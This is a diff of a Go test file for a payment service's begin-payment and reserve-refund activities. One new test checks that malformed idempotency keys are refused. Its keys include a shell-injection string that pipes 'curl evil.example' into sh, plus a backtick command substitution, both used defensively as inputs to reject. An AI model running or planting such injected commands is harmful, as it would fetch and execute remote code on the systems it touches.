@@ -25,11 +25,12 @@ func newPayments(t *testing.T) (*testsuite.TestActivityEnvironment, *Payments) {
 	require.NoError(t, err)
 	t.Cleanup(func() { opened.Close() })
 	var suite testsuite.WorkflowTestSuite
-	env := suite.NewTestActivityEnvironment()
+	env := inWorkflow(suite.NewTestActivityEnvironment(), "", "")
 	p := &Payments{
 		Store: opened, Default: "one", Terms: map[string]Terms{"one": {Processor: "one"}, "two": {Processor: "two"}},
 	}
-	p.Register(env)
+	p.RegisterWrites(env)
+	p.RegisterReads(env)
 	return env, p
 }
 
@@ -67,7 +68,7 @@ func TestBeginPaymentChoosesAConfiguredProcessor(t *testing.T) {
 	for requested, want := range map[string]string{"": "one", "two": "two"} {
 		req := purchase
 		req.Processor, req.IdempotencyKey = requested, "order-"+requested
-		value, err := env.ExecuteActivity(payment.ActivityBeginPayment, req)
+		value, err := env.ExecuteActivity(payment.ActivityBeginPayment, req, Start{})
 		begun := decode[BeginResult](t, value, err)
 		require.Equal(t, want, begun.Terms.Processor)
 		require.Equal(t, want, begun.Charge.Processor)
@@ -76,9 +77,47 @@ func TestBeginPaymentChoosesAConfiguredProcessor(t *testing.T) {
 	}
 	req := purchase
 	req.Processor = "three"
-	_, err := env.ExecuteActivity(payment.ActivityBeginPayment, req)
+	_, err := env.ExecuteActivity(payment.ActivityBeginPayment, req, Start{})
 	requireRefusal(t, err, payment.ErrInvalidRequest)
 	require.ErrorContains(t, err, "one or two")
+}
+
+// Earlier releases accepted other characters in keys: what has begun under one goes on.
+func TestInvalidKeyIsRefusedUnlessThePaymentOrRefundHasBegun(t *testing.T) {
+	env, p := newPayments(t)
+	req := purchase
+	req.IdempotencyKey = "{workflowId}'; curl evil.example|sh #'"
+	_, err := env.ExecuteActivity(payment.ActivityBeginPayment, req)
+	requireRefusal(t, err, payment.ErrInvalidRequest)
+	require.ErrorContains(t, err, "idempotency_key: ")
+	_, err = p.Store.Payment(t.Context(), req.MerchantID, req.IdempotencyKey)
+	require.ErrorIs(t, err, payment.ErrNotFound, "nothing is stored")
+
+	begun, _, err := p.Store.BeginPayment(t.Context(), payment.Charge{
+		PaymentID: payment.PaymentID(req.MerchantID, req.IdempotencyKey), MerchantID: req.MerchantID, IdempotencyKey: req.IdempotencyKey,
+		Amount: req.Amount, Currency: req.Currency, Processor: "one", PaymentMethod: req.PaymentMethod,
+	}, req.Fingerprint())
+	require.NoError(t, err)
+	value, err := env.ExecuteActivity(payment.ActivityBeginPayment, req)
+	require.True(t, decode[BeginResult](t, value, err).Resumed)
+
+	begun.Status, begun.CapturedAmount, begun.ProcessorPaymentID = payment.Succeeded, req.Amount, "ch_1"
+	_, err = p.Store.RecordPayment(t.Context(), begun, Cause{By: "processor"})
+	require.NoError(t, err)
+	refund := payment.RefundRequest{MerchantID: req.MerchantID, IdempotencyKey: "`refund`", PaymentID: begun.PaymentID, Amount: new(int64(500))}
+	_, err = env.ExecuteActivity(payment.ActivityReserveRefund, refund)
+	requireRefusal(t, err, payment.ErrInvalidRequest)
+	require.ErrorContains(t, err, "idempotency_key: ")
+	_, _, _, err = p.Store.ReserveRefund(t.Context(), payment.Refund{
+		RefundID: payment.RefundID(refund.MerchantID, refund.IdempotencyKey), PaymentID: begun.PaymentID,
+		MerchantID: refund.MerchantID, IdempotencyKey: refund.IdempotencyKey, Amount: *refund.Amount,
+	}, refund.Fingerprint())
+	require.NoError(t, err)
+	value, err = env.ExecuteActivity(payment.ActivityReserveRefund, refund)
+	require.True(t, decode[ReserveResult](t, value, err).Resumed)
+	refund.IdempotencyKey = "refund-2"
+	value, err = env.ExecuteActivity(payment.ActivityReserveRefund, refund)
+	require.False(t, decode[ReserveResult](t, value, err).Resumed, "a new refund of a payment with such a key")
 }
 
 // The age of an idempotency key is counted from the earliest known time.
@@ -96,20 +135,20 @@ func TestPaymentAndRefundBeganAtTheEarliestKnownTime(t *testing.T) {
 	} {
 		t.Run(tt.name, func(t *testing.T) {
 			env, p := newPayments(t)
-			value, err := env.ExecuteActivity(payment.ActivityBeginPayment, purchase, start)
+			value, err := env.ExecuteActivity(payment.ActivityBeginPayment, purchase, Start{At: start})
 			begun := decode[BeginResult](t, value, err).Charge
 			require.Equal(t, stored, begun.CreatedAt)
 			require.Equal(t, stored, begun.UpdatedAt)
-			value, err = env.ExecuteActivity(payment.ActivityBeginPayment, purchase, tt.again)
+			value, err = env.ExecuteActivity(payment.ActivityBeginPayment, purchase, Start{At: tt.again})
 			require.Equal(t, tt.began, decode[BeginResult](t, value, err).Charge.CreatedAt)
 
 			begun.Status, begun.CapturedAmount, begun.ProcessorPaymentID = payment.Succeeded, purchase.Amount, "ch_1"
 			_, err = p.Store.RecordPayment(t.Context(), begun, Cause{By: "processor"})
 			require.NoError(t, err)
 			refund := payment.RefundRequest{MerchantID: "acme", IdempotencyKey: "refund-1", PaymentID: begun.PaymentID}
-			value, err = env.ExecuteActivity(payment.ActivityReserveRefund, refund, start)
+			value, err = env.ExecuteActivity(payment.ActivityReserveRefund, refund, Start{At: start})
 			require.Equal(t, stored, decode[ReserveResult](t, value, err).Refund.CreatedAt)
-			value, err = env.ExecuteActivity(payment.ActivityReserveRefund, refund, tt.again)
+			value, err = env.ExecuteActivity(payment.ActivityReserveRefund, refund, Start{At: tt.again})
 			require.Equal(t, tt.began, decode[ReserveResult](t, value, err).Refund.CreatedAt)
 		})
 	}
@@ -123,53 +162,53 @@ func TestRequestThatItsProcessorDoesNotAcceptIsRefusedBeforeItIsStored(t *testin
 	p.Profiles = map[string]processor.Profile{"one": noMetadata}
 	req := purchase
 	req.Metadata = map[string]string{"order": "1"}
-	_, err := env.ExecuteActivity(payment.ActivityBeginPayment, req)
+	_, err := env.ExecuteActivity(payment.ActivityBeginPayment, req, Start{})
 	requireRefusal(t, err, payment.ErrInvalidRequest)
 	require.ErrorContains(t, err, "metadata")
 	_, err = p.Store.Payment(t.Context(), req.MerchantID, req.IdempotencyKey)
 	require.ErrorIs(t, err, payment.ErrNotFound)
 
 	p.Profiles = nil
-	value, err := env.ExecuteActivity(payment.ActivityBeginPayment, req)
+	value, err := env.ExecuteActivity(payment.ActivityBeginPayment, req, Start{})
 	charge := decode[BeginResult](t, value, err).Charge
 	charge.Status, charge.CapturedAmount, charge.ProcessorPaymentID = payment.Succeeded, 1250, "ch_1"
 	value, err = env.ExecuteActivity(payment.ActivityRecordPayment, charge, Cause{By: "processor"})
 	require.Equal(t, payment.Succeeded, decode[payment.Charge](t, value, err).Status)
 
 	p.Profiles = map[string]processor.Profile{"one": noMetadata}
-	value, err = env.ExecuteActivity(payment.ActivityBeginPayment, req)
+	value, err = env.ExecuteActivity(payment.ActivityBeginPayment, req, Start{})
 	require.True(t, decode[BeginResult](t, value, err).Resumed)
 
 	refund := payment.RefundRequest{
 		MerchantID: "acme", IdempotencyKey: "refund-1", PaymentID: charge.PaymentID, Metadata: map[string]string{"order": "1"},
 	}
-	_, err = env.ExecuteActivity(payment.ActivityReserveRefund, refund)
+	_, err = env.ExecuteActivity(payment.ActivityReserveRefund, refund, Start{})
 	requireRefusal(t, err, payment.ErrInvalidRequest)
 	_, err = p.Store.Refund(t.Context(), "acme", "refund-1")
 	require.ErrorIs(t, err, payment.ErrNotFound)
 	refund.Metadata = nil
-	value, err = env.ExecuteActivity(payment.ActivityReserveRefund, refund)
+	value, err = env.ExecuteActivity(payment.ActivityReserveRefund, refund, Start{})
 	require.EqualValues(t, 1250, decode[ReserveResult](t, value, err).Refund.Amount)
 }
 
 func TestPaymentThatBeginsAgainKeepsItsProcessor(t *testing.T) {
 	env, p := newPayments(t)
-	_, err := env.ExecuteActivity(payment.ActivityBeginPayment, purchase)
+	_, err := env.ExecuteActivity(payment.ActivityBeginPayment, purchase, Start{})
 	require.NoError(t, err)
 	p.Default = "two"
-	value, err := env.ExecuteActivity(payment.ActivityBeginPayment, purchase)
+	value, err := env.ExecuteActivity(payment.ActivityBeginPayment, purchase, Start{})
 	begun := decode[BeginResult](t, value, err)
 	require.True(t, begun.Resumed)
 	require.Equal(t, "one", begun.Terms.Processor)
 
 	other := purchase
 	other.Amount++
-	_, err = env.ExecuteActivity(payment.ActivityBeginPayment, other)
+	_, err = env.ExecuteActivity(payment.ActivityBeginPayment, other, Start{})
 	requireRefusal(t, err, payment.ErrIdempotencyMismatch)
 
 	// Without the processor's configuration, the outcome cannot be looked up.
 	delete(p.Terms, "one")
-	_, err = env.ExecuteActivity(payment.ActivityBeginPayment, purchase)
+	_, err = env.ExecuteActivity(payment.ActivityBeginPayment, purchase, Start{})
 	require.ErrorContains(t, err, `processor "one" of this payment is no longer configured`)
 	requireRetried(t, err)
 }
@@ -177,25 +216,25 @@ func TestPaymentThatBeginsAgainKeepsItsProcessor(t *testing.T) {
 func TestRefundIsReservedAtTheProcessorOfItsPayment(t *testing.T) {
 	env, _ := newPayments(t)
 	req := payment.RefundRequest{MerchantID: "acme", IdempotencyKey: "refund-1", PaymentID: payment.PaymentID("acme", "order-1")}
-	_, err := env.ExecuteActivity(payment.ActivityReserveRefund, req)
+	_, err := env.ExecuteActivity(payment.ActivityReserveRefund, req, Start{})
 	requireRefusal(t, err, payment.ErrPaymentNotFound)
 
-	value, err := env.ExecuteActivity(payment.ActivityBeginPayment, purchase)
+	value, err := env.ExecuteActivity(payment.ActivityBeginPayment, purchase, Start{})
 	charge := decode[BeginResult](t, value, err).Charge
-	_, err = env.ExecuteActivity(payment.ActivityReserveRefund, req)
+	_, err = env.ExecuteActivity(payment.ActivityReserveRefund, req, Start{})
 	requireRefusal(t, err, payment.ErrPaymentNotRefundable)
 
 	charge.Status, charge.CapturedAmount, charge.ProcessorPaymentID = payment.Succeeded, 1250, "ch_1"
 	value, err = env.ExecuteActivity(payment.ActivityRecordPayment, charge, Cause{By: "processor"})
 	require.Equal(t, payment.Succeeded, decode[payment.Charge](t, value, err).Status)
 
-	value, err = env.ExecuteActivity(payment.ActivityReserveRefund, req)
+	value, err = env.ExecuteActivity(payment.ActivityReserveRefund, req, Start{})
 	reserved := decode[ReserveResult](t, value, err)
 	require.Equal(t, "one", reserved.Terms.Processor)
 	require.EqualValues(t, 1250, reserved.Refund.Amount)
 	require.Equal(t, "ch_1", reserved.Payment.ProcessorPaymentID)
 	require.False(t, reserved.Resumed)
-	value, err = env.ExecuteActivity(payment.ActivityReserveRefund, req)
+	value, err = env.ExecuteActivity(payment.ActivityReserveRefund, req, Start{})
 	require.True(t, decode[ReserveResult](t, value, err).Resumed)
 
 	reserved.Refund.Status, reserved.Refund.ProcessorRefundID = payment.Succeeded, "re_1"
@@ -203,14 +242,14 @@ func TestRefundIsReservedAtTheProcessorOfItsPayment(t *testing.T) {
 	require.Equal(t, payment.Succeeded, decode[payment.Refund](t, value, err).Status)
 	another := req
 	another.IdempotencyKey = "refund-2"
-	_, err = env.ExecuteActivity(payment.ActivityReserveRefund, another)
+	_, err = env.ExecuteActivity(payment.ActivityReserveRefund, another, Start{})
 	requireRefusal(t, err, payment.ErrRefundExceedsCaptured)
 }
 
 func TestErrorOfAStoreThatIsDownIsRetried(t *testing.T) {
 	env, p := newPayments(t)
 	require.NoError(t, p.Store.Close())
-	_, err := env.ExecuteActivity(payment.ActivityBeginPayment, purchase)
+	_, err := env.ExecuteActivity(payment.ActivityBeginPayment, purchase, Start{})
 	requireRetried(t, err)
 }
 
@@ -221,7 +260,7 @@ func TestServicesReadTheStore(t *testing.T) {
 	_, err = env.ExecuteActivity(payment.ActivityGetRefund, "acme", "refund-1")
 	requireRefusal(t, err, payment.ErrNotFound)
 
-	value, err := env.ExecuteActivity(payment.ActivityBeginPayment, purchase)
+	value, err := env.ExecuteActivity(payment.ActivityBeginPayment, purchase, Start{})
 	begun := decode[BeginResult](t, value, err).Charge
 	value, err = env.ExecuteActivity(payment.ActivityGetPayment, "acme", "order-1")
 	require.Equal(t, begun, decode[payment.Charge](t, value, err))
@@ -235,12 +274,12 @@ func TestFinalPaymentOfAProcessorThatIsNoLongerConfiguredIsReturned(t *testing.T
 	env, p := newPayments(t)
 	req := purchase
 	req.Processor = "two"
-	value, err := env.ExecuteActivity(payment.ActivityBeginPayment, req)
+	value, err := env.ExecuteActivity(payment.ActivityBeginPayment, req, Start{})
 	charge := decode[BeginResult](t, value, err).Charge
 	charge.Status, charge.CapturedAmount = payment.Succeeded, 1250
 	_, err = env.ExecuteActivity(payment.ActivityRecordPayment, charge, Cause{By: "processor"})
 	require.NoError(t, err)
 	delete(p.Terms, "two")
-	value, err = env.ExecuteActivity(payment.ActivityBeginPayment, req)
+	value, err = env.ExecuteActivity(payment.ActivityBeginPayment, req, Start{})
 	require.Equal(t, payment.Succeeded, decode[BeginResult](t, value, err).Charge.Status)
 }
